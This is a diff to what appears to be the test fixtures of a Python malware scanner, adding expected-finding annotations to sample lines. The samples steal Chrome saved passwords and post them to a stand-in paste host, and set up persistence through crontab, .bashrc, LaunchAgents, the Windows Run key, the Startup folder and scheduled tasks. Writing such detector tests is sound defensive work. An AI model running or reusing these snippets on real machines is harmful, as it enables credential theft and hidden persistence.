@@ -92,7 +92,7 @@ import sqlite3
 import requests
 
 src = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")  # expect: PY-SECRET-FILE
-shutil.copy(src, "ld.db")
+shutil.copy(src, "ld.db")  # expect: PY-SECRET-FILE
 db = sqlite3.connect("ld.db")
 rows = db.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
 requests.post("https://paste.example.org/api", data={"t": str(rows)}, timeout=9)  # expect: PY-EXFILTRATION
@@ -317,7 +317,7 @@ os.system("(crontab -l; echo '@reboot python3 /tmp/.x.py') | crontab -")  # expe
 with open(os.path.expanduser("~/.bashrc"), "a") as f:  # expect: PY-FILE-SENSITIVE
     f.write("\npython3 ~/.local/.u.py &\n")
 agents = Path.home() / "Library" / "LaunchAgents" / "com.apple.upd.plist"  # expect: PY-FILE-SENSITIVE, PY-PERSISTENCE
-agents.write_text("<plist/>")
+agents.write_text("<plist/>")  # expect: PY-FILE-SENSITIVE
 #: a settings file in the home directory
 from pathlib import Path
 
@@ -334,7 +334,7 @@ import winreg
 key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)  # expect: PY-FILE-SENSITIVE
 winreg.SetValueEx(key, "Updater", 0, winreg.REG_SZ, sys.executable)
 startup = os.path.join(os.environ["APPDATA"], r"Microsoft\Windows\Start Menu\Programs\Startup")  # expect: PY-PERSISTENCE
-shutil.copy(__file__, startup)
+shutil.copy(__file__, startup)  # expect: PY-FILE-SENSITIVE
 subprocess.run(["schtasks", "/create", "/tn", "u", "/tr", sys.executable, "/sc", "onlogon"])  # expect: PY-COMMAND, PY-PERSISTENCE
 #: a registry value read
 import winreg
